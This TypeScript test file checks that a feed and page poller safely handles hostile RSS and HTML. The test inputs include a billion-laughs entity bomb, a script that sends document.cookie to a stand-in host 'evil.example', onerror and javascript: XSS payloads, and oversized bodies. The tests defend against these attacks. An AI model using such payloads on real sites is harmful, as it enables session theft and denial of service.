import { beforeAll, describe, expect, it } from "vitest";
import { feedItems, htmlToBlocks } from "../../src/watch/parse";
import { pollSources } from "../../src/watch/poll";
import { call, json } from "../helpers";
import { createSource, importDefaultDataset, pollDeps, scriptedFetch } from "./watch.helpers";

async function pollBody(body: string, kind: "feed" | "page" = "feed", path = crypto.randomUUID()) {
  const net = scriptedFetch();
  const url = `https://hostile.example/${path}`;
  const source = await createSource({ url, kind });
  net.routes.set(url, { body });
  const result = await pollSources(pollDeps(net.fetch).deps, [source.id]);
  const view = await json(call("GET", `/api/v1/sources/${source.id}`));
  const proposals = (await json(call("GET", "/api/v1/proposals?limit=200"))).items.filter((p: any) => p.source === source.id);
  return { result, health: view.health, proposals };
}

describe("hostile feeds and pages", () => {
  beforeAll(importDefaultDataset);

  it("does not expand entities: a billion-laughs document stays small and is no feed", async () => {
    const lol = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "lollollollollollollollollollol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${"b".repeat(i + 1)} "${`&${i === 0 ? "a" : "b".repeat(i)};`.repeat(10)}">`).join("")}]><rss version="2.0"><channel><title>&bbbbbbbbb;</title><item><title>Strategic Working Group &bbbbbbbbb;</title><link>https://hostile.example/a</link></item></channel></rss>`;
    const items = await feedItems(lol, "https://hostile.example/");
    expect(items.every((i) => i.text.length < 10_000)).toBe(true);
    const { result, health } = await pollBody(lol);
    expect(result.polled).toBe(1);
    expect(health.status === "healthy" || health.status === "failing").toBe(true);
  });

  it("refuses a body over 2 MB and records why", async () => {
    const huge = `<rss version="2.0"><channel><title>x</title><item><title>${"a".repeat(3 * 1024 * 1024)}</title></item></channel></rss>`;
    const { health } = await pollBody(huge);
    expect(health).toMatchObject({ status: "failing", last_error: "the body is larger than 2097152 bytes" });
  });

  it("caps a huge item's text and title instead of keeping them whole", async () => {
    const description = "The Strategic Working Group held its first meeting. ".repeat(20_000); // ~1 MB
    const body = `<rss version="2.0"><channel><title>x</title><item><title>${"Strategic Working Group ".repeat(100)}</title><link>https://hostile.example/long</link><description>${description}</description></item></channel></rss>`;
    const [item] = await feedItems(body, "https://hostile.example/");
    expect(item!.title.length).toBeLessThanOrEqual(300);
    expect(item!.text.length).toBeLessThanOrEqual(8000);
    const { proposals } = await pollBody(body);
    expect(proposals.every((p: any) => p.snippet.length <= 280 && p.item.title.length <= 300)).toBe(true);
  });

  it("records invalid XML and a document that is no feed as a failing poll, without throwing", async () => {
    for (const body of ["<rss><channel><item><title>unclosed", "{\"not\": \"a feed\"}", "", "\u0000\u0001binary"]) {
      const { result, health } = await pollBody(body);
      expect(result.polled, body).toBe(1);
      expect(health.status, body).toBe("failing");
      expect(health.last_error, body).toMatch(/^could not read the feed/);
    }
  });

  it("keeps script, style and markup out of item text: what is stored is plain text", async () => {
    const description = `<p>The Strategic Working Group held its first meeting.</p><script>fetch('https://evil.example/'+document.cookie)</script><style>p{}</style><img src=x onerror=alert(1)><a href="javascript:alert(2)">the Charter on Strategic Partnership</a>`;
    const body = `<rss version="2.0"><channel><title>x</title><item><title>&lt;b&gt;Strategic Working Group&lt;/b&gt; meets</title><link>https://hostile.example/xss</link><description><![CDATA[${description}]]></description></item></channel></rss>`;
    const { proposals } = await pollBody(body);
    expect(proposals).toHaveLength(1);
    const text = JSON.stringify(proposals[0]);
    expect(text).not.toMatch(/<script|evil\.example|onerror|javascript:|<b>|<p>/);
    expect(proposals[0].snippet).toMatch(/Strategic Working Group/);
    expect(proposals[0].item.title).toBe("Strategic Working Group meets");
  });

  it("refuses item links that are not http(s): no javascript: evidence", async () => {
    const body = `<rss version="2.0"><channel><title>x</title><item><title>Strategic Working Group held its first meeting on the Charter on Strategic Partnership</title><link>javascript:alert(1)</link><guid>g-1</guid></item></channel></rss>`;
    const { proposals } = await pollBody(body);
    expect(proposals).toHaveLength(1);
    expect(proposals[0].item.url).toBeNull();
    expect(proposals[0].suggested.evidence).toBeNull();
  });

  it("reads the text of a hostile page without its scripts", async () => {
    const { title, blocks } = await htmlToBlocks(
      `<html><head><title>Press &amp; news</title><script>var s = "<p>not text</p>";</script></head><body><noscript>enable js</noscript><template><p>hidden</p></template><p>Visible &lt;text&gt; here</p><svg><text>svg text</text></svg></body></html>`,
    );
    expect(title).toBe("Press & news");
    expect(blocks).toEqual(["Visible <text> here"]);
  });
});
